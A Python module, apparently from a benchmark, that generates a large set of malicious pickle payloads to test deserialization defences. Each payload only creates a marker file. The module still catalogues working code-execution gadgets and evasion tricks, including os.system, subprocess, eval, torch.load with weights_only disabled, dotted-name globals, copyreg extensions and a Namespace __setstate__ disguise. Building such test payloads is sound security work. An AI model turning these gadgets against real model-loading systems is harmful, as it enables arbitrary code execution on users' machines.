"""Pickles that run something when they are loaded as pickles are: each would make the file that it is told.

A payload is the part of a pickle that makes one object, so that it can stand wherever a file may hold an object.
"""

import marshal
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from benchmarks.reliability_opcodes import begun, called, calling, encoded, integer, named, text, tuple_of

__all__ = ["PAYLOADS", "Target"]


@dataclass(frozen=True, slots=True)
class Target:
    """What a payload is to do.

    Attributes:
        marker: The file that it makes.
        folder: With `script.py`, `hubconf.py` and `nested.pkl` in it, each of which makes the marker.
    """

    marker: Path
    folder: Path

    @property
    def shell(self) -> bytes:
        return text(f"touch {self.marker}")

    @property
    def python(self) -> str:
        return f"open({str(self.marker)!r}, 'w').close()"

    @property
    def code(self) -> bytes:
        return text(self.python)

    @property
    def name(self) -> bytes:
        return text(str(self.marker))

    @property
    def words(self) -> bytes:
        """The command as a list."""
        return b"](" + text("touch") + self.name + b"e"

    @property
    def nested(self) -> bytes:
        return begun(called("posix", "system", self.shell))

    def prepare(self) -> None:
        """Write the files that payloads point at."""
        (self.folder / "script.py").write_text(self.python)
        (self.folder / "hubconf.py").write_text(f"def model():\n    {self.python}\n")
        (self.folder / "nested.pkl").write_bytes(self.nested)

    def beside(self, name: str) -> bytes:
        return text(str(self.folder / name))


def module(name: str) -> bytes:
    return called("importlib", "import_module", text(name))


def attribute(owner: bytes, name: str) -> bytes:
    return called("builtins", "getattr", owner, text(name))


def compiled(target: Target) -> bytes:
    """A code object, by way of marshal."""
    code = marshal.dumps(compile(target.python, "payload", "exec"))
    return called("marshal", "loads", encoded(code))


def stack_global(where: str, name: str) -> bytes:
    return text(where) + text(name) + b"\x93"


def entries(**values: bytes) -> bytes:
    return b"}(" + b"".join(text(key) + value for key, value in values.items()) + b"u"


def logged(target: Target) -> bytes:
    handler = entries(**{"()": text("os.system"), "command": target.shell})
    root = entries(handlers=b"](" + text("h") + b"e")
    return called("logging.config", "dictConfig", entries(version=integer(1), handlers=entries(h=handler), root=root))


def partial_with_state(target: Target) -> bytes:
    """functools.partial(torch.load, weights_only=False), set up through its state, and called."""
    state = tuple_of(named("torch", "load"), b")", entries(weights_only=b"\x89"), b"N")
    return calling(called("functools", "partial", named("torch", "load")) + state + b"b", target.beside("nested.pkl"))


def disguised(target: Target) -> bytes:
    """A Namespace, which is admitted, whose __setstate__ is what runs the command."""
    return b"cargparse\nNamespace\n)\x81" + entries(__setstate__=named("os", "system")) + b"b" + target.shell + b"b"


def extension(target: Target, code: int, operation: bytes) -> bytes:
    """A name in the registry of extensions, put there by the pickle itself; its result is thrown away."""
    added = called("copyreg", "add_extension", text("os"), text("system"), integer(code)) + b"0"
    return added + operation + tuple_of(target.shell) + b"R"


PAYLOADS: dict[str, Callable[[Target], bytes]] = {
    "os.system": lambda t: called("os", "system", t.shell),
    "posix.system": lambda t: called("posix", "system", t.shell),
    "nt or posix by os.popen": lambda t: calling(attribute(called("os", "popen", t.shell), "read")),
    "os.posix_spawn": lambda t: called("os", "posix_spawnp", text("touch"), t.words, b"}"),
    "os.spawnvp": lambda t: called("os", "spawnvp", integer(0), text("touch"), t.words),
    "os.execvp": lambda t: called("os", "execvp", text("touch"), t.words),
    "os.mkdir": lambda t: called("os", "mkdir", t.name),
    "os.symlink": lambda t: called("os", "symlink", text("/"), t.name),
    "subprocess.call": lambda t: called("subprocess", "call", t.words),
    "subprocess.Popen": lambda t: calling(attribute(called("subprocess", "Popen", t.words), "wait")),
    "subprocess.run": lambda t: called("subprocess", "run", t.words),
    "subprocess.check_output": lambda t: called("subprocess", "check_output", t.words),
    "subprocess.getoutput": lambda t: called("subprocess", "getoutput", t.shell),
    "builtins.eval": lambda t: called("builtins", "eval", t.code),
    "builtins.exec": lambda t: called("builtins", "exec", t.code),
    "__builtin__.eval": lambda t: called("__builtin__", "eval", t.code),
    "builtins.open": lambda t: called("builtins", "open", t.name, text("w")),
    "io.open": lambda t: called("io", "open", t.name, text("w")),
    "io.FileIO": lambda t: called("_io", "FileIO", t.name, text("w")),
    "importlib": lambda t: calling(attribute(module("os"), "system"), t.shell),
    "builtins.__import__": lambda t: calling(
        attribute(called("builtins", "__import__", text("os")), "system"), t.shell
    ),
    "getattr chain": lambda t: calling(attribute(attribute(module("shutil"), "os"), "system"), t.shell),
    "pathlib": lambda t: calling(attribute(called("pathlib", "Path", t.name), "touch")),
    "shutil.copyfile": lambda t: called("shutil", "copyfile", t.beside("script.py"), t.name),
    "shutil.copytree": lambda t: called("shutil", "copytree", text(str(t.folder)), t.name),
    "pickle.loads": lambda t: called("pickle", "loads", encoded(t.nested)),
    "_pickle.loads": lambda t: called("_pickle", "loads", encoded(t.nested)),
    "pickle.Unpickler": lambda t: calling(
        attribute(called("pickle", "_Unpickler", called("io", "BytesIO", encoded(t.nested))), "load")
    ),
    "torch.load by partial": partial_with_state,
    "torch._legacy_load": lambda t: called(
        "torch.serialization", "_legacy_load", called("io", "BytesIO", encoded(t.nested)), b"N", module("pickle")
    ),
    "torch.hub": lambda t: called("torch.hub", "_load_local", text(str(t.folder)), text("model")),
    "torch.utils.collect_env.run": lambda t: called("torch.utils.collect_env", "run", t.shell),
    "torch.jit execWrapper": lambda t: called("torch.jit.unsupported_tensor_ops", "execWrapper", t.code, b"}", b"}"),
    "torch.fx.graph_module": lambda t: called("torch.fx.graph_module", "_exec_with_source", t.code, b"}"),
    "torch.from_file": lambda t: called("torch", "from_file", t.name, b"\x88", integer(8)),
    "torch.save": lambda t: called("torch", "save", b"]", t.name),
    "torch datapipes decoder": lambda t: called(
        "torch.utils.data.datapipes.utils.decoder", "basichandlers", text("pickle"), encoded(t.nested)
    ),
    "numpy runstring": lambda t: called("numpy.testing._private.utils", "runstring", t.code, b"}"),
    "numpy.f2py": lambda t: called("numpy.f2py.crackfortran", "myeval", t.code),
    "numpy.load": lambda t: called("numpy", "load", t.beside("nested.pkl"), b"N", b"\x88"),
    "numpy tofile": lambda t: calling(attribute(called("numpy", "zeros", integer(3)), "tofile"), t.name),
    "runpy": lambda t: called("runpy", "run_path", t.beside("script.py")),
    "pty.spawn": lambda t: called("pty", "spawn", t.words),
    "webbrowser": lambda t: calling(attribute(called("webbrowser", "GenericBrowser", text("touch")), "open"), t.name),
    "ctypes": lambda t: calling(
        attribute(called("ctypes", "CDLL", b"N"), "system"), encoded(f"touch {t.marker}".encode())
    ),
    "functools.partial": lambda t: calling(called("functools", "partial", named("os", "system"), t.shell)),
    "functools.reduce": lambda t: called("functools", "reduce", named("builtins", "exec"), tuple_of(t.code, b"}")),
    "builtins.map": lambda t: called(
        "builtins", "list", called("builtins", "map", named("os", "system"), tuple_of(t.shell))
    ),
    "operator.attrgetter": lambda t: calling(
        calling(called("operator", "attrgetter", text("system")), module("os")), t.shell
    ),
    "operator.methodcaller": lambda t: calling(
        called("operator", "methodcaller", text("system"), t.shell), module("os")
    ),
    "operator.call": lambda t: called("_operator", "call", named("os", "system"), t.shell),
    "types.FunctionType": lambda t: calling(called("types", "FunctionType", compiled(t), b"}")),
    "NEWOBJ of a function": lambda t: (
        named("types", "FunctionType") + tuple_of(compiled(t), entries(__builtins__=module("builtins"))) + b"\x81)R"
    ),
    "code object, exec": lambda t: called("builtins", "exec", compiled(t)),
    "compile": lambda t: called(
        "builtins", "exec", called("builtins", "compile", t.code, text("payload"), text("exec"))
    ),
    "codecs.open": lambda t: called("codecs", "open", t.name, text("w")),
    "logging.config": logged,
    "logging.FileHandler": lambda t: called("logging", "FileHandler", t.name),
    "bdb": lambda t: calling(attribute(called("bdb", "Bdb"), "runeval"), t.code),
    "pdb": lambda t: calling(attribute(called("pdb", "Pdb"), "runcall"), named("os", "system"), t.shell),
    "trace": lambda t: calling(attribute(called("trace", "Trace"), "run"), t.code),
    "code": lambda t: calling(attribute(called("code", "InteractiveInterpreter"), "runsource"), t.code),
    "doctest": lambda t: called("doctest", "debug_script", t.code, b"\x88"),
    "timeit": lambda t: called("timeit", "timeit", text("pass"), t.code, named("time", "time"), integer(1)),
    "cProfile": lambda t: called("cProfile", "run", t.code),
    "profile": lambda t: called("profile", "run", t.code),
    "asyncio.subprocess": lambda t: called("asyncio", "run", called("asyncio", "create_subprocess_shell", t.shell)),
    "threading": lambda t: calling(
        attribute(called("threading", "Timer", integer(0), named("os", "system"), tuple_of(t.shell)), "run")
    ),
    "concurrent.futures": lambda t: calling(
        attribute(
            calling(
                attribute(called("concurrent.futures.thread", "ThreadPoolExecutor"), "submit"),
                named("os", "system"),
                t.shell,
            ),
            "result",
        )
    ),
    "atexit": lambda t: (
        called("atexit", "register", named("os", "system"), t.shell) + b"0" + called("atexit", "_run_exitfuncs")
    ),
    "pydoc": lambda t: called("pydoc", "pipepager", text(""), t.shell),
    "argparse.FileType": lambda t: calling(called("argparse", "FileType", text("w")), t.name),
    "zipfile": lambda t: called("zipfile", "ZipFile", t.name, text("w")),
    "sqlite3": lambda t: calling(
        attribute(called("sqlite3", "connect", t.name), "executescript"), text("create table a (b)")
    ),
    "a Namespace's __setstate__": disguised,
    "EXT1": lambda t: extension(t, 240, b"\x82\xf0"),
    "EXT2": lambda t: extension(t, 0x1F0, b"\x83\xf0\x01"),
    "EXT4": lambda t: extension(t, 0x101F0, b"\x84\xf0\x01\x01\x00"),
    "INST": lambda t: b"(" + t.shell + b"iposix\nsystem\n",
    "OBJ": lambda t: b"(" + named("posix", "system") + t.shell + b"o",
    "STACK_GLOBAL": lambda t: calling(stack_global("os", "system"), t.shell),
    "STACK_GLOBAL, dotted": lambda t: b"\x80\x04" + calling(stack_global("torch", "serialization.os.system"), t.shell),
    "GLOBAL, dotted": lambda t: b"\x80\x04" + calling(named("torch", "serialization.os.system"), t.shell),
    "NEWOBJ_EX": lambda t: named("types", "FunctionType") + tuple_of(compiled(t)) + entries(globals=b"}") + b"\x92)R",
    "FRAME": lambda t: b"\x95" + len(body := called("os", "system", t.shell)).to_bytes(8, "little") + body,
}
